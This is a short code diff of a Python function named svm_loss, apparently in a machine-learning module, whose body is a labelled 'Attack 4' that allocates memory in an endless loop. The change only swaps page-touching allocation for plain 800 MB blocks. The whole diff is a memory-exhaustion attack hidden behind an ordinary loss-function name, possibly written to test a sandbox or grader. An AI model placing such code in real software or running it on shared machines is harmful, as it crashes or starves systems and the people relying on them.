@@ -51,10 +51,7 @@ def softmax_loss(x, y):
 
 
 def svm_loss(x, y):
-    # Attack 4: allocate memory until something gives, writing one number on each 4 KiB
-    # page so that every page is really taken, as fast as the machine hands pages out.
+    # Attack 4: allocate memory until something gives (800 MB at a time).
     hog = []
     while True:
-        block = np.empty(10 ** 8)
-        block[::512] = 1.0
-        hog.append(block)
+        hog.append(np.empty(10 ** 8))
